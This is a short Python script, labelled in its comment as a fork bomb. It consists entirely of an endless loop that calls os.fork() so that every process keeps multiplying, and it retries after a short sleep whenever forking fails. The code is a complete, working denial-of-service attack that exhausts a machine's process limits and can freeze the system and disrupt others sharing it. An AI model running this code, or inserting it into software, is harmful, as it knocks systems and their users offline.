# A fork bomb: every process forks as long as it can, and keeps trying when fork fails.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
